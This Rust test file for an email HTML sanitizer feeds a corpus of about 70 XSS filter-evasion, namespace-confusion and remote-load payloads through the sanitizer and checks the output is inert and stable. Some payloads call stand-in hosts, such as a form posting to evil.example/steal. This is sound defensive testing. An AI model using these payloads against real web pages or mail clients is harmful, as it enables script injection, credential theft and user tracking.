use proptest::prelude::*;
use proptest::test_runner::Config;

use super::*;

/// HTML-01 and HTML-04: XSS filter evasion classics, ammonia advisory payloads and
/// remote-load vectors.
const HOSTILE: &[&str] = &[
    // OWASP filter evasion cheat sheet.
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"https://ok.example/\" onclick=\"alert(1)\">x</a>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<iframe src=\"https://evil.example/\">fallback</iframe>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" type=\"image/svg+xml\"></EMBED>",
    "<form action=\"https://evil.example/steal\"><input name=p><button>Go</button></form>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<base href=\"https://evil.example/\"><a href=\"x\">x</a>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"https://evil.example/xss.css\">",
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    // Ammonia advisories and DOMPurify-style namespace confusion.
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><animate href=#x attributeName=href values=javascript:alert(1) />",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><iframe><a title=\"</iframe><img src onerror=alert(1)>\">test",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    // Remote loads.
    "<img src=\"https://t.example/p.gif\" srcset=\"https://t.example/p2.gif 2x\">",
    "<picture><source srcset=\"https://t.example/a.webp\"><img src=\"https://t.example/a.png\"></picture>",
    "<body background=\"https://t.example/bg.png\">x</body>",
    "<table background=\"https://t.example/bg.png\"><tr><td background=\"https://t.example/c.png\">x</td></tr></table>",
    "<div style=\"background:url(https://t.example/px.gif)\">x</div>",
    "<span style=\"background-image:url('https://t.example/px.gif')\">x</span>",
    "<style>@import url(https://t.example/x.css);</style>",
    "<style>@font-face{font-family:x;src:url(https://t.example/f.woff)}</style>",
    "<link rel=\"preload\" href=\"https://t.example/x\">",
    "<svg><filter><feImage href=\"https://t.example/f.png\"/></filter></svg>",
    "<svg><image href=\"https://t.example/i.png\"/></svg>",
    "<svg><use href=\"https://t.example/s.svg#a\"/></svg>",
    "<video poster=\"https://t.example/poster.png\" src=\"https://t.example/v.mp4\"></video>",
    "<audio src=\"https://t.example/a.mp3\"></audio>",
    "<object data=\"https://t.example/x.swf\"></object>",
    "<embed src=\"https://t.example/x.swf\">",
    "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">",
    "<input type=\"image\" src=\"https://t.example/i.png\">",
    "<image src=\"https://t.example/i.png\">",
    "<img src=\"cid:logo@example\"><img src=\"data:image/png;base64,AAAA\">",
];

/// Attribute names of every tag in `html`, lowercased. Deliberately independent of the
/// module's own tokenizer: it tolerates unquoted values and any whitespace.
fn attribute_names(html: &str) -> Vec<String> {
    let bytes = html.as_bytes();
    // The index of the first byte at or after `i` matching `stop`, or the end.
    let until = |i: usize, stop: &dyn Fn(u8) -> bool| {
        bytes[i.min(bytes.len())..]
            .iter()
            .position(|&b| stop(b))
            .map_or(bytes.len(), |at| i + at)
    };
    let mut names = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] != b'<' || !bytes.get(i + 1).is_some_and(u8::is_ascii_alphabetic) {
            i += 1;
            continue;
        }
        i = until(i, &|b| b == b'>' || b == b'/' || b.is_ascii_whitespace());
        loop {
            i = until(i, &|b| b != b'/' && !b.is_ascii_whitespace());
            if i >= bytes.len() || bytes[i] == b'>' {
                break;
            }
            let start = i;
            i = until(i, &|b| b == b'=' || b == b'>' || b.is_ascii_whitespace());
            names.push(html[start..i].to_ascii_lowercase());
            if bytes.get(i) == Some(&b'=') {
                i = match bytes.get(i + 1) {
                    Some(&quote @ (b'"' | b'\'')) => until(i + 2, &|b| b == quote) + 1,
                    _ => until(i + 1, &|b| b == b'>' || b.is_ascii_whitespace()),
                };
            }
        }
    }
    names
}

/// Must not appear anywhere in sanitized output, lowercased.
#[rustfmt::skip]
const FORBIDDEN: &[&str] = &[
    "<script", "javascript:", "vbscript:", "data:", "<svg", "<math", "<iframe", "<object",
    "<embed", "<form", "<base", "<meta", "<link", "<style", "<video", "<audio", "<picture",
    "<source", " src=", "srcset", "style=", "url(", "poster", "background",
];

fn assert_inert(payload: &str, html: &str) {
    let lower = html.to_lowercase();
    for needle in FORBIDDEN {
        assert!(
            !lower.contains(needle),
            "{needle:?} survived {payload:?}: {html}"
        );
    }
    for name in attribute_names(html) {
        assert!(
            !name.starts_with("on"),
            "{name} survived {payload:?}: {html}"
        );
    }
}

#[test]
fn hostile_corpus_is_inert() {
    assert!(HOSTILE.len() >= 40);
    for payload in HOSTILE {
        let (html, _) = clean_html(payload);
        assert_inert(payload, &html);
        assert_eq!(clean_html(&html).0, html, "not a fixpoint: {payload:?}");
        assert_inert(
            payload,
            &clean_body(Some(payload), None).html.unwrap_or_default(),
        );
    }
}

#[test]
fn anchors_open_safely_and_lose_unsafe_hrefs() {
    let cases = [
        (
            r#"<a href="https://x.example/a?b=1&amp;c=2">x</a>"#,
            r#"<a href="https://x.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">x</a>"#,
        ),
        (
            r#"<a href="https://x.example/" target="_self" rel="opener">x</a>"#,
            r#"<a href="https://x.example/" target="_blank" rel="noopener noreferrer">x</a>"#,
        ),
        (
            r#"<a href="mailto:a@example.com">m</a>"#,
            r#"<a href="mailto:a@example.com" target="_blank" rel="noopener noreferrer">m</a>"#,
        ),
        (
            r#"<a href="javascript:alert(1)">j</a>"#,
            r#"<a target="_blank" rel="noopener noreferrer">j</a>"#,
        ),
        (
            r#"<a href="/relative/path">r</a>"#,
            r#"<a target="_blank" rel="noopener noreferrer">r</a>"#,
        ),
    ];
    for (input, expected) in cases {
        assert_eq!(clean_html(input).0, expected, "{input}");
    }
}

#[test]
fn remote_images_are_deferred() {
    let (html, blocked) = clean_html(
        r#"<img src="https://t.example/p.gif" alt="x" width="1" height="1" onerror="y">"#,
    );
    assert_eq!(
        html,
        r#"<img data-remote-src="https://t.example/p.gif" alt="x" width="1" height="1">"#
    );
    assert!(blocked);
    assert_eq!(clean_html(&html), (html.clone(), true));

    let (html, blocked) =
        clean_html(r#"<img data-remote-src="https://old.example/" src="http://t.example/p.gif">"#);
    assert_eq!(html, r#"<img data-remote-src="http://t.example/p.gif">"#);
    assert!(blocked);

    for dropped in [
        r#"<img src="cid:part1@example" alt="logo">"#,
        r#"<img data-remote-src="javascript:alert(1)" alt="logo">"#,
        r#"<img src="mailto:a@example.com" alt="logo">"#,
        r#"<img src="logo.png" alt="logo">"#,
    ] {
        assert_eq!(
            clean_html(dropped),
            (r#"<img alt="logo">"#.to_owned(), false),
            "{dropped}"
        );
    }

    // `Tokens` relies on the serializer escaping `<`, `>` and `"` inside attribute values.
    let (html, _) = clean_html(r#"<img alt='<img src="https://x/">' src="https://t.example/">"#);
    assert_eq!(
        html,
        r#"<img alt="&lt;img src=&quot;https://x/&quot;&gt;" data-remote-src="https://t.example/">"#
    );

    assert_eq!(
        clean_html("<p>Hi <b>there</b></p>"),
        ("<p>Hi <b>there</b></p>".to_owned(), false)
    );
}

#[test]
fn formatting_survives() {
    let html = concat!(
        "<h1>T</h1><p>a<br>b <i>c</i> <em>d</em> <u>e</u> <strong>f</strong></p>",
        "<ul><li>1</li></ul><ol><li>2</li></ol><blockquote>q</blockquote><hr>",
        "<pre><code>x  y</code></pre>",
        r#"<table><thead><tr><th colspan="2">h</th></tr></thead>"#,
        r#"<tbody><tr><td rowspan="2">c</td><td>d</td></tr></tbody></table>"#,
        "<div><span>s</span></div>",
    );
    assert_eq!(clean_html(html).0, html);
}

#[test]
fn leading_newline_in_pre_is_stable() {
    let (html, _) = clean_html("<pre>\n\n\nx</pre><pre><b>y</b>\n</pre>");
    assert_eq!(html, "<pre>\n\n\nx</pre><pre><b>y</b>\n</pre>");
    assert_eq!(clean_html(&html).0, html);
}

/// Dropping a wrapper can leave markup the parser restructures; the loop settles it.
#[test]
fn restructured_markup_settles() {
    let cases = [
        ("<h1><x><h2>a</h2></x></h1>", "<h1></h1><h2>a</h2>"),
        ("<h3><font><h4>a</h4></font></h3>", "<h3></h3><h4>a</h4>"),
        (
            "<a></rt><applet><a></colgroup></annotation-xml><div>",
            concat!(
                r#"<a target="_blank" rel="noopener noreferrer"></a>"#,
                r#"<a target="_blank" rel="noopener noreferrer"><div></div></a>"#,
            ),
        ),
    ];
    for (input, expected) in cases {
        let (html, _) = clean_html(input);
        assert_eq!(html, expected, "{input}");
        assert_eq!(clean_html(&html).0, html, "{input}");
    }
}

#[test]
fn text_is_readable() {
    let html = concat!(
        "<html><head><title>Ignored</title><style>p { color: red }</style></head><body>",
        "<p>Hello&nbsp;<b>Ann</b> &amp; Bob,</p><p>line one<br>line  two\n continues</p>",
        "<script>alert(1)</script><ul><li>first</li><li>second</li></ul>",
        "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>",
        "<pre>keep   this\n  layout</pre>&lt;not a tag&gt;</body></html>",
    );
    assert_eq!(
        html_to_text(html),
        "Hello Ann & Bob,\n\nline one\nline two continues\n\nfirst\nsecond\n\na b\nc d\n\n\
         keep   this\n  layout\n\n<not a tag>"
    );
    assert_eq!(html_to_text(""), "");
    assert_eq!(html_to_text("a<br><br><br><br>b"), "a\n\nb");
}

#[test]
fn body_prefers_text_part() {
    let body = clean_body(
        Some("<p>Hi</p><img src=\"https://t.example/p\">"),
        Some("  Hi there \n"),
    );
    assert_eq!(
        body,
        CleanBody {
            html: Some(r#"<p>Hi</p><img data-remote-src="https://t.example/p">"#.to_owned()),
            text: "Hi there".to_owned(),
            blocked_remote: true,
        }
    );

    let body = clean_body(Some("<p>Fish &amp; chips</p><p>Tomorrow</p>"), Some("  "));
    assert_eq!(body.text, "Fish & chips\n\nTomorrow");
    assert!(!body.blocked_remote);

    let body = clean_body(Some(" \n"), Some("plain"));
    assert_eq!(
        body,
        CleanBody {
            html: None,
            text: "plain".to_owned(),
            blocked_remote: false
        }
    );
    assert_eq!(clean_body(None, None).text, "");
}

#[test]
fn fallback_is_a_fixpoint() {
    let text = html_to_text("<p>a &lt;b&gt; &amp; c</p><pre>\n x\ty\n</pre>\u{a0}");
    let fallback = escape_text(&text);
    assert_eq!(clean_html(&fallback), (fallback.clone(), false));
}

const FRAGMENTS: &[&str] = &[
    "<",
    ">",
    "</",
    "/>",
    "\"",
    "'",
    "/",
    "=",
    " ",
    "\n",
    "\t",
    "&",
    "&amp;",
    "&#58;",
    "&lt;",
    "<!--",
    "-->",
    "img",
    "svg",
    "math",
    "mtext",
    "mglyph",
    "a",
    "style",
    "script",
    "table",
    "tr",
    "td",
    "p",
    "pre",
    "div",
    "b",
    "li",
    "h1",
    "form",
    "noscript",
    "textarea",
    "template",
    "select",
    "src",
    "href",
    "onerror",
    "data-remote-src",
    "srcset",
    "javascript:alert(1)",
    "https://x/",
    "x",
    "\u{a0}",
];

fn html_soup() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(FRAGMENTS), 0..48).prop_map(|parts| parts.concat())
}

fn check(input: &str) -> Result<(), TestCaseError> {
    let (html, blocked) = clean_html(input);
    prop_assert_eq!(clean_html(&html), (html.clone(), blocked));
    for name in attribute_names(&html) {
        prop_assert!(
            !name.starts_with("on") && name != "src" && name != "style",
            "{}",
            html
        );
    }
    let text = html_to_text(input);
    let fallback = escape_text(&text);
    prop_assert_eq!(clean_html(&fallback).0, fallback);
    Ok(())
}

fn config() -> Config {
    Config {
        cases: 256,
        // Tests must not write regression files into the source tree.
        failure_persistence: None,
        ..Config::default()
    }
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn fixpoint_on_arbitrary_strings(input in any::<String>()) {
        check(&input)?;
    }

    #[test]
    fn fixpoint_on_html_soup(input in html_soup()) {
        check(&input)?;
    }
}
